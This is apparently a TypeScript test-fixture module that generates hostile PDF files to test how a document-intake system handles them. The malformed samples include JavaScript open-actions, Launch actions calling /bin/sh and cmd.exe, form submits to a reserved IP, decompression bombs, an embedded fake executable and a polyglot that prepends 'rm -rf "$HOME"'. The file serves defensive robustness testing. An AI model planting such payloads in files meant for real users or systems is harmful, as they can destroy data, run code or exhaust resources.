import { bomb, deflated } from './deflated';
import { family, type HostileFile } from './hostile-file';
import { encryptedPdf, withHandler } from './pdf-encryption';
import { paper, paperWithPicture, stream, TEXT } from './pdf-writer';
import { pdfDrawing } from './pdf-drawing';
import { pdfPictures } from './pdf-pictures';
import { fixturePdf } from './pictures-base';

const script = (code: string) => `<</S/JavaScript/JS(${code})>>`;
const FLATE = '/Filter/FlateDecode';

/** Files whose skeleton is sound and whose contents are not. */
export function pdfContents(seed: number): HostileFile[] {
  return [
    ...family('pdf-encrypted', 'refused', {
      'password-40': () => encryptedPdf('mat khau', 40),
      'password-128': () => encryptedPdf('mat khau', 128),
      'unknown-handler': () => withHandler('/Filter/Other/V 1'),
      'keys-cut': () => withHandler('/Filter/Standard/V 2/R 3/Length 128/P -44/O<00>/U<00>'),
      'aes-256-torn': () =>
        withHandler('/Filter/Standard/V 5/R 6/Length 256/P -44/O<00>/U<00>/OE<00>/UE<00>/Perms<00>'),
      'key-of-a-million-bits': () =>
        withHandler(`/Filter/Standard/V 2/R 3/Length 1000000/P -44/O<${'00'.repeat(32)}>/U<${'00'.repeat(32)}>`),
    }),
    ...family('pdf-encrypted-open', 'taken', {
      'empty-40': () => encryptedPdf('', 40),
      'empty-128': () => encryptedPdf('', 128),
    }),
    ...family('pdf-scripts', 'taken', {
      'open-action': () => paper({ catalog: `/OpenAction ${script('app.alert\\(1\\)')}` }),
      endless: () => paper({ catalog: `/OpenAction ${script('while\\(true\\){}')}` }),
      'names-tree': () => paper({ catalog: `/Names<</JavaScript<</Names[(a)${script('for\\(;;\\);')}]>>>>` }),
      launch: () => paper({ catalog: '/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>' }),
      uri: () => paper({ catalog: '/OpenAction<</S/URI/URI(http://198.51.100.1/a)>>' }),
      submit: () => paper({ page: '/AA<</O<</S/SubmitForm/F(http://198.51.100.1/b)>>>>' }),
      'go-to-remote': () => paper({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\198.51.100.1\\\\share)/D[0/Fit]>>' }),
      'form-field': () =>
        paper({
          catalog: `/AcroForm<</Fields[6 0 R]/XFA[(template) 7 0 R]>>`,
          page: '/Annots[6 0 R]',
          more: [
            `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[50 50 200 80]/AA<</K ${script('event.value=1')}>>>>`,
            stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'),
          ],
        }),
    }),
    ...family('pdf-embedded', 'taken', {
      program: () => withAttachment(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4096, 0x90)])),
      'itself-again': () => withAttachment(paper()),
      bomb: () => withAttachment(bomb(1024), FLATE),
      'rich-media': () =>
        paper({ page: '/Annots[6 0 R]', more: ['<</Type/Annot/Subtype/RichMedia/Rect[0 0 500 500]>>'] }),
    }),
    ...family('pdf-flate', 'either', {
      'gigabyte-of-zeros': () => paper({ content: stream(FLATE, bomb(1024)) }),
      'gigabyte-of-spaces': () => paper({ content: stream(FLATE, bomb(1024, 32)) }),
      'gigabyte-of-open-arrays': () => paper({ content: stream(FLATE, bomb(1024, 91)) }),
      'gigabyte-of-saves': () => paper({ content: stream(FLATE, deflated('q '.repeat(20_000_000))) }),
      'bomb-in-a-bomb': () => paper({ content: stream('/Filter[/FlateDecode/FlateDecode]', deflated(bomb(1024))) }),
      'predictor-wide': () =>
        paper({
          content: stream(`${FLATE}/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32>>`, deflated(TEXT)),
        }),
      'object-stream': () =>
        paper({ catalog: '/Names 9 0 R', more: [stream(`/Type/ObjStm/N 5/First 9${FLATE}`, bomb(1024, 32))] }),
      'run-length': () => paper({ content: stream('/Filter/RunLengthDecode', Buffer.alloc(2_000_000, 129)) }),
      'lzw-noise': () => paper({ content: stream('/Filter/LZWDecode', Buffer.alloc(500_000, 0x80)) }),
      'filters-fiftyfold': () =>
        paper({ content: stream(`/Filter[${'/ASCIIHexDecode'.repeat(50)}]`, '20'.repeat(9999)) }),
      'filter-torn': () => paper({ content: stream(FLATE, bomb(4).subarray(0, 2000)) }),
    }),
    ...pdfPictures(),
    ...family('pdf-fonts', 'either', {
      missing: () => paper({ content: 'BT /Nothing 24 Tf 72 700 Td (A) Tj ET' }),
      'true-type-noise': () =>
        paper(
          font('/Subtype/TrueType/BaseFont/A/FontDescriptor<</FontFile2 7 0 R/Flags 4>>', Buffer.alloc(9000, 0x41)),
        ),
      'type-1-noise': () =>
        paper(
          font(
            '/Subtype/Type1/BaseFont/A/FontDescriptor<</FontFile 7 0 R/Flags 4>>',
            Buffer.from(`%!PS-AdobeFont-1.0\n${'{'.repeat(90_000)}`),
          ),
        ),
      'type-3-draws-itself': () =>
        paper({
          resources: '/XObject<</X 6 0 R>>',
          content: 'BT /T 24 Tf 72 700 Td (aaaa) Tj ET /X Do',
          page: '/Unused 7 0 R',
          more: [
            stream(
              '/Type/XObject/Subtype/Form/BBox[0 0 500 500]/Resources<</Font<</T 7 0 R>>>>',
              'BT /T 9 Tf (a) Tj ET',
            ),
            '<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 8 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<</Font<</T 7 0 R>>>>>>',
            stream('', '9 0 d0 BT /T 9 Tf (aa) Tj ET'),
          ],
        }),
      'map-of-itself': () =>
        paper(
          font(
            '/Subtype/Type0/BaseFont/A/Encoding 7 0 R/DescendantFonts[6 0 R]',
            Buffer.from('/CMapName /A def\n/A usecmap\nbegincmap 1 begincidrange <0000> <ffff> 0 endcidrange endcmap'),
          ),
        ),
      'widths-million': () =>
        paper(
          font(
            `/Subtype/TrueType/BaseFont/A/FirstChar 0/LastChar 255/Widths[${'9e30 '.repeat(200_000)}]`,
            Buffer.alloc(9),
          ),
        ),
      'code-ranges': () =>
        paper(
          font(
            '/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 7 0 R/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 2147483647 500]>>]',
            Buffer.from(`begincmap ${'1 beginbfrange <00000000> <7fffffff> <0041> endbfrange '.repeat(500)}endcmap`),
          ),
        ),
    }),
    ...pdfDrawing(seed),
    ...family('pdf-signed', 'taken', {
      whole: () => signed(0),
      'range-lies': () => signed(77_777),
      'changed-after': () => Buffer.concat([signed(0), Buffer.from('\n7 0 obj\n<<>>\nendobj\n')]),
    }),
    ...family('pdf-polyglot', 'either', {
      'zip-behind': () =>
        Buffer.concat([
          paper(),
          Buffer.from('PK\x03\x04', 'latin1'),
          Buffer.alloc(60),
          Buffer.from('PK\x05\x06', 'latin1'),
          Buffer.alloc(18),
        ]),
      'html-before': () => paper({ head: '<html><script>alert(1)</script><!--\n%PDF-1.7\n' }),
      'script-before': () => paper({ head: '#!/bin/sh\nrm -rf "$HOME"\n%PDF-1.7\n' }),
      'header-after-1000': () => paper({ head: `${' '.repeat(1000)}%PDF-1.7\n` }),
      'header-after-2000': () => paper({ head: `${' '.repeat(2000)}%PDF-1.7\n` }),
    }),
    ...family('pdf-box', 'either', {
      huge: () => paper({ mediaBox: '[0 0 1e9 1e9]' }),
      endless: () => paper({ mediaBox: '[0 0 1e38 1e38]' }),
      zero: () => paper({ mediaBox: '[0 0 0 0]' }),
      negative: () => paper({ mediaBox: '[0 0 -500 -700]' }),
      words: () => paper({ mediaBox: '[NaN null (a) /b]' }),
      'three-numbers': () => paper({ mediaBox: '[0 0 595]' }),
      tiny: () => paper({ mediaBox: '[0 0 0.0001 0.0001]' }),
      ribbon: () => paper({ mediaBox: '[0 0 1 14400]' }),
      'unit-million': () => paper({ page: '/UserUnit 1000000' }),
      'crop-outside': () => paper({ page: '/CropBox[9000 9000 9100 9100]' }),
      'turned-45': () => paper({ page: '/Rotate 45' }),
      'turned-billions': () => paper({ page: '/Rotate 2147483640' }),
    }),
    ...family('pdf-odd', 'taken', {
      'turned-90': () => paper({ page: '/Rotate 90' }),
      'a0-sheet': () => paper({ mediaBox: '[0 0 2384 3370]' }),
      'version-2.0': () => paper({ head: '%PDF-2.0\n' }),
      'box-from-corner': () => paper({ mediaBox: '[595 842 0 0]' }),
      'old-file': () => paper({ head: '%PDF-1.0\n' }),
      'colour-a4-at-600-dpi': () =>
        paperWithPicture(`/Width 4960/Height 7016/ColorSpace/DeviceRGB/BitsPerComponent 8${FLATE}`, bomb(100, 0xf0)),
      'from-a-printer': () => fixturePdf(),
    }),
    // Last: these are large, and what the process received lingers for a while.
    ...family('pdf-padding', 'either', {
      'comments-of-49-mb': () => paper({ head: `%PDF-1.7\n${`%${'x'.repeat(98)}\n`.repeat(490_000)}` }),
      'comments-behind': () => paper({ tail: `%${'y'.repeat(999)}\n`.repeat(48_000) }),
      'spaces-of-49-mb': () => paper({ content: ' '.repeat(49_000_000) }),
      'name-of-a-megabyte': () => paper({ catalog: `/${'N'.repeat(1_000_000)} 1` }),
      'string-of-10-mb': () => paper({ catalog: `/S(${'('.repeat(5_000_000)}${')'.repeat(5_000_000)})` }),
      'objects-300000': () => paper({ more: Array<string>(300_000).fill('0') }),
    }),
  ];
}

function withAttachment(data: Buffer, filter = ''): Buffer {
  return paper({
    catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>',
    more: [stream(`/Type/EmbeddedFile${filter}`, data)],
  });
}

const font = (dictionary: string, file: Buffer) => ({
  resources: '/ExtGState<<>>/Font<</F2 6 0 R>>',
  page: '/Tabs/S',
  content: stream('', 'BT /F2 24 Tf 72 700 Td (Don de nghi) Tj ET'),
  trailer: '/Root 1 0 R',
  catalog: '/X 6 0 R',
  more: [`<</Type/Font ${dictionary}>>`, stream('', file)],
});

/** The structure of a signed form; the signature itself is zeros. */
function signed(shift: number): Buffer {
  const contents = '0'.repeat(2048);
  return paper({
    catalog: '/AcroForm<</SigFlags 3/Fields[6 0 R]>>',
    page: '/Annots[6 0 R]',
    more: [
      '<</Type/Annot/Subtype/Widget/FT/Sig/T(chu ky)/Rect[300 50 500 120]/F 4/V 7 0 R>>',
      `<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 ${900 + shift} ${2950 + shift} 400]/Contents<${contents}>>>`,
    ],
  });
}
